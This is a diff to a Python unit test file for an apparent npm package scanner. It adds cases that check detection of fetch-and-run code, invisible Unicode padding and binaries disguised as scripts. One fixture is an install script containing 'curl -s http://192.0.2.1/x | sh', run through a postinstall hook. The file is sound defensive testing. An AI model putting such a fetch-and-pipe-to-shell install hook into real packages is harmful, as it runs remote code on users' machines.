@@ -76,7 +76,9 @@ class Scripts(unittest.TestCase):
             self.assertIn("fetch-and-run", rules(report(at.parents[1])), package)
         # A program of macOS is no script, whatever texts are in it.
         self.npm({"x": b"\xcf\xfa\xed\xfe\x07\0\n" + FETCH.encode() + b"\n"}, bin={"x": "x"}, code=0)
+        self.assertIn("fetch-and-run", self.npm({"x": b"\xcf\xfa\xed\xfe\n" + FETCH.encode() + b"\n"}, bin={"x": "x"}))
         self.npm({"x.dll": b"MZ\0" + "\ufe01".encode() * 40}, code=0)
+        self.assertIn("invisible-unicode", self.npm({"x.md": b"MZ\0" + "\ufe01".encode() * 40}))
         # What an install script starts is judged as such, in an archive, too.
         self.assertIn("fetch-then-run", self.npm({"go.js": "const u = 'curl -s http://192.0.2.1/x | sh';\n"},
                                                  scripts={"postinstall": "node go.js"}))
